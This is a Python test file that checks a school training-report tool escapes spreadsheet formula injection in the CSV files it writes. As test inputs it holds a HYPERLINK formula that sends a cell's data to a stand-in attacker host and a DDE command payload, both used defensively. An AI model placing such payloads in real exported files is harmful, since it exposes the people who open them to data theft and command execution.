"""Finding 3 of issue 15: no cell of a CSV isdp writes runs as a spreadsheet formula.

Roster values and LRS-supplied strings that start with =, +, -, @, a tab or a carriage
return get OWASP's leading ' (core/spreadsheet.py), tested in every file: compliance.csv,
overdue.csv and unverified.csv of the training report, and links.csv of `isdp learners links`.
"""

from __future__ import annotations

import csv

import pytest

from ..reports.conftest import LMS, as_stored, conn, make, put, write_roster  # noqa: F401
from ..reports.test_cli import site, training  # noqa: F401

ATTACK = '=HYPERLINK("https://attacker.example/?c="&A2,"Open your course")'


@pytest.mark.parametrize("value", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                                   "\t=1+1", "\r=1+1"])
def test_every_formula_start_is_neutralised(value):
    from build_tools.core.spreadsheet import safe_cell

    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ann Lee", "2500", "", "O'Neil", "a=b", 7, None])
def test_other_cells_are_unchanged(value):
    from build_tools.core.spreadsheet import safe_cell

    assert safe_cell(value) == value


def _rows(path):
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _no_formula(rows):
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells


def test_training_report_csvs(site, tmp_path, conn):  # noqa: F811
    # A roster with a crafted role and name (both are written into compliance and overdue),
    # and an LRS statement from a crafted account, not on the roster (into unverified.csv).
    put(conn, as_stored(make("@evil", "passed", "ferpa", "2026-09-02T10:00:00"), authority=LMS))
    roster = write_roster(tmp_path / "roster.csv", [
        "E1,Ann Lee,ann.lee@jackson.k12.ms.us,2500,Jackson Public School District,-teacher",
        f'E2,"{ATTACK.replace(chr(34), chr(34) * 2)}",bob.ray@biloxi.k12.ms.us,2420,'
        "Biloxi Public School District,teacher",
    ])
    out = tmp_path / "report"
    result = training(site, tmp_path, roster, out)
    assert result.exit_code == 0, result.output
    compliance, overdue, unverified = (_rows(out / name) for name in
                                       ("compliance.csv", "overdue.csv", "unverified.csv"))
    assert compliance[1][5] == "'-teacher" and compliance[2][1] == "'" + ATTACK
    assert overdue[1][1] == "'" + ATTACK
    assert "'@evil" in [cell for row in unverified for cell in row]
    for rows in (compliance, overdue, unverified):
        _no_formula(rows)


def test_links_csv(tmp_path):
    from click.testing import CliRunner

    from build_tools.cli import main

    from ..conftest import REPO

    roster = write_roster(tmp_path / "roster.csv", [
        f'E1,"{ATTACK.replace(chr(34), chr(34) * 2)}",ann.lee@jackson.k12.ms.us,2500,'
        "Jackson Public School District,teacher",
    ])
    out = tmp_path / "links.csv"
    result = CliRunner().invoke(main, ["learners", "links", "--src", str(REPO), "--roster", str(roster),
                                       "--lrs-url", "https://lrs.mdek12.org/xAPI/", "--out", str(out),
                                       "--lrs-dir", str(tmp_path / "lrs")])
    assert result.exit_code == 0, result.output
    rows = _rows(out)
    assert rows[1][1] == "'" + ATTACK and rows[1][-1].startswith("https://")
    _no_formula(rows)
